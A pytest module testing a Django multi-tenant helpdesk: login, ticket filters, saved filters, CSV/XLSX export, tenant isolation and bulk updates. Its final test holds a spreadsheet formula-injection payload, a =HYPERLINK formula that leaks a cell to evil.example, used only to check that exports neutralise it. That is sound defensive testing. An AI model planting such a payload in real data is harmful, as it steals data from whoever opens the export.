from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from linia.core.models import Membership, Role
from linia.desk.models import SavedFilter
from linia.tickets import actions
from tests import factories as f
from tests.desk.conftest import Desk

pytestmark = pytest.mark.django_db
LIST = "/tickets/"


def test_login_page_and_login_flow(desk: Desk) -> None:
    anonymous = Client()
    response = anonymous.get(LIST)
    assert response.status_code == 302 and "/accounts/login/" in response["Location"]
    page = anonymous.get(reverse("login"))
    assert page.status_code == 200 and b'name="password"' in page.content
    assert b'action="/i18n/setlang/"' in page.content
    bad = anonymous.post(reverse("login"), {"username": "anna", "password": "wrong"})
    assert "Wrong user name or password" in bad.content.decode()
    ok = anonymous.post(reverse("login"), {"username": "anna", "password": "pass12345"})
    assert ok.status_code == 302 and ok["Location"] == LIST
    assert anonymous.get("/").status_code == 302


def test_list_shows_tenant_tickets_with_columns(desk: Desk) -> None:
    page = desk.client.get(LIST).content.decode()
    assert desk.ticket.reference in page and "Sour milk" in page and "Ivan Petrov" in page and "VL-001" in page
    assert "Foreign secret" not in page and desk.foreign_ticket.reference not in page
    assert 'id="global-search"' in page and "desk.js" in page and "htmx.min.js" in page


def test_list_filters_and_text_search(desk: Desk) -> None:
    other = actions.create_ticket(None, desk.tenant, subject="Loyalty card lost", channel="email", priority="high")
    by_priority = desk.client.get(LIST, {"priority": "high"}).content.decode()
    assert other.reference in by_priority and desk.ticket.reference not in by_priority
    by_channel = desk.client.get(LIST, {"channel": "call"}).content.decode()
    assert desk.ticket.reference in by_channel and other.reference not in by_channel
    by_store = desk.client.get(LIST, {"store_id": desk.store.pk}).content.decode()
    assert desk.ticket.reference in by_store and other.reference not in by_store
    unassigned = desk.client.get(LIST, {"assignee": "none"}).content.decode()
    assert desk.ticket.reference in unassigned
    actions.update_ticket(desk.agent, other, assignee=desk.agent.pk)
    mine = desk.client.get(LIST, {"assignee": "me"}).content.decode()
    assert other.reference in mine and desk.ticket.reference not in mine
    found = desk.client.get(LIST, {"q": "loyalty"}).content.decode()
    assert other.reference in found and desk.ticket.reference not in found
    assert '<option value="relevance" selected>' in found  # text search ranks best matches first
    both = desk.client.get(LIST, {"q": "milk OR loyalty", "order": "-created"}).content.decode()
    assert '<option value="-created" selected>' in both


def test_invalid_filter_shows_message_not_500(desk: Desk) -> None:
    response = desk.client.get(LIST, {"status": "bogus", "created_from": "yesterday"})
    assert response.status_code == 200
    text = response.content.decode()
    assert "The filter is not valid" in text and "created_from" in text and "status" in text
    assert desk.ticket.reference in text  # falls back to all tickets


def test_pagination(desk: Desk) -> None:
    for i in range(55):
        actions.create_ticket(None, desk.tenant, subject=f"Bulk {i}", channel="sms")
    first = desk.client.get(LIST, {"channel": "sms"}).content.decode()
    assert "Page 1 of 2" in first and "page=2" in first and "channel=sms" in first
    second = desk.client.get(LIST, {"channel": "sms", "page": 2}).content.decode()
    assert "Bulk 0" in second and "Bulk 54" not in second


def test_saved_filter_save_use_delete_and_privacy(desk: Desk) -> None:
    response = desk.client.post(reverse("desk:filter_create"),
                                {"name": "Urgent calls", "query": "priority=urgent&channel=call"})
    assert response.status_code == 302
    saved = SavedFilter.objects.get(name="Urgent calls")
    assert saved.user == desk.agent and saved.tenant == desk.tenant
    assert saved.params == {"priority": ["urgent"], "channel": ["call"]}
    assert "Urgent calls" in desk.client.get(LIST).content.decode()
    opened = desk.client.get(reverse("desk:filter_open", args=[saved.pk]))
    assert opened.status_code == 302 and "priority=urgent" in opened["Location"]

    colleague = Client()
    colleague.force_login(desk.colleague)
    assert "Urgent calls" not in colleague.get(LIST).content.decode()
    assert colleague.get(reverse("desk:filter_open", args=[saved.pk])).status_code == 404
    assert colleague.post(reverse("desk:filter_delete", args=[saved.pk])).status_code == 404
    desk.client.post(reverse("desk:filter_create"), {"name": "Team view", "query": "open_only=1", "shared": "1"})
    assert "Team view" in colleague.get(LIST).content.decode()

    bad = desk.client.post(reverse("desk:filter_create"), {"name": "Broken", "query": "status=nope"}, follow=True)
    assert "cannot be saved" in bad.content.decode() and not SavedFilter.objects.filter(name="Broken").exists()
    desk.client.post(reverse("desk:filter_delete", args=[saved.pk]))
    assert not SavedFilter.objects.filter(pk=saved.pk).exists()


def test_csv_export_uses_filter_and_tenant_time_zone(desk: Desk) -> None:
    actions.create_ticket(None, desk.tenant, subject="Email only", channel="email")
    response = desk.client.get(reverse("desk:tickets_export", args=["csv"]), {"channel": "call"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert rows[0][0] == "Reference" and len(rows) == 2
    assert rows[1][0] == desk.ticket.reference and rows[1][6] == "VL-001 Svetlanskaya"
    from zoneinfo import ZoneInfo

    from django.utils import timezone
    expected = timezone.localtime(desk.ticket.created_at, ZoneInfo("Asia/Vladivostok")).strftime("%Y-%m-%d %H:%M")
    assert rows[1][10] == expected


def test_xlsx_export_never_includes_other_tenants(desk: Desk) -> None:
    response = desk.client.get(reverse("desk:tickets_export", args=["xlsx"]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[c.value for c in row] for row in sheet.iter_rows()]
    assert values[0][:3] == ["Reference", "Subject", "Status"]
    references = [row[0] for row in values[1:]]
    assert references == [desk.ticket.reference]
    assert desk.foreign_ticket.reference not in references


def test_export_requires_permission(desk: Desk) -> None:
    store_staff = f.user("kasia", tenant=desk.tenant, role=Role.STORE_STAFF, store=desk.store)
    client = Client()
    client.force_login(store_staff)
    assert client.get(reverse("desk:tickets_export", args=["csv"])).status_code == 403
    assert "Export CSV" not in client.get(LIST).content.decode()


def test_tenant_switcher_only_into_member_tenants(desk: Desk) -> None:
    response = desk.client.post(reverse("desk:switch_tenant"), {"tenant": desk.other.pk}, follow=True)
    assert "not a member of that tenant" in response.content.decode()
    assert desk.foreign_ticket.reference not in desk.client.get(LIST).content.decode()
    Membership.objects.create(user=desk.agent, tenant=desk.other, role=Role.AGENT)
    desk.client.post(reverse("desk:switch_tenant"), {"tenant": desk.other.pk})
    page = desk.client.get(LIST).content.decode()
    assert desk.foreign_ticket.reference in page and desk.ticket.reference not in page
    # the ticket of the tenant we left is now "another tenant's"
    assert desk.client.get(reverse("desk:ticket", args=[desk.ticket.pk])).status_code == 404


def test_builtin_views_in_sidebar(desk: Desk) -> None:
    mine = actions.create_ticket(None, desk.tenant, subject="Mine", channel="call", assignee=desk.agent.pk)
    actions.change_status(None, desk.ticket, "solved")
    page = desk.client.get(LIST, {"assignee": "me", "open_only": "1"}).content.decode()
    assert 'href="?assignee=me&amp;open_only=1" class="active"' in page
    assert mine.reference in page and desk.ticket.reference not in page
    assert desk.ticket.reference not in desk.client.get(LIST, {"open_only": "1"}).content.decode()


def test_bulk_status_and_assignee(desk: Desk) -> None:
    second = actions.create_ticket(None, desk.tenant, subject="Second", channel="call")
    closed = actions.create_ticket(None, desk.tenant, subject="Closed one", channel="call")
    actions.change_status(None, closed, "closed")
    page = desk.client.get(LIST).content.decode()
    assert 'form="bulk"' in page and 'data-tick-all' in page
    response = desk.client.post(reverse("desk:bulk_update"), {
        "ids": [desk.ticket.pk, second.pk, closed.pk, desk.foreign_ticket.pk], "status": "open", "assignee": "me",
        "query": "channel=call"}, follow=True)
    text = response.content.decode()
    assert response.redirect_chain[-1][0] == "/tickets/?channel=call"
    assert "2 tickets updated." in text and "Not changed" in text
    assert closed.reference in text and "This status change is not allowed." in text
    assert f"#{desk.foreign_ticket.pk}: not found" in text and "Foreign secret" not in text
    for t in (desk.ticket, second):
        t.refresh_from_db()
        assert (t.status, t.assignee_id) == ("open", desk.agent.pk)
    desk.foreign_ticket.refresh_from_db()
    assert (desk.foreign_ticket.status, desk.foreign_ticket.assignee_id) == ("new", None)
    nothing = desk.client.post(reverse("desk:bulk_update"), {"ids": [second.pk]}, follow=True)
    assert "Tick some tickets and choose a status or an assignee." in nothing.content.decode()


def test_bulk_only_touches_tickets_the_user_may_see(desk: Desk) -> None:
    viewer = f.user("viewer", tenant=desk.tenant, role=Role.STORE_STAFF, store=desk.store)
    client = Client()
    client.force_login(viewer)
    other = actions.create_ticket(None, desk.tenant, subject="Not theirs", channel="call")
    client.post(reverse("desk:bulk_update"), {"ids": [other.pk, desk.ticket.pk], "status": "pending_client"})
    other.refresh_from_db()
    desk.ticket.refresh_from_db()
    assert other.status == "new" and desk.ticket.status == "pending_client"


def test_exports_never_hand_a_spreadsheet_a_formula(desk: Desk) -> None:
    """A customer's subject is data: "=HYPERLINK(...)" must not run when a supervisor opens the export."""
    subject = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
    actions.create_ticket(None, desk.tenant, subject=subject, channel="email")
    response = desk.client.get(reverse("desk:tickets_export", args=["csv"]))
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    assert "'" + subject in [row[1] for row in rows]
    response = desk.client.get(reverse("desk:tickets_export", args=["xlsx"]))
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[1] for row in sheet.iter_rows(min_row=2)]
    evil = next(c for c in cells if c.value == subject)  # the text itself, as a string cell
    assert evil.data_type == "s"
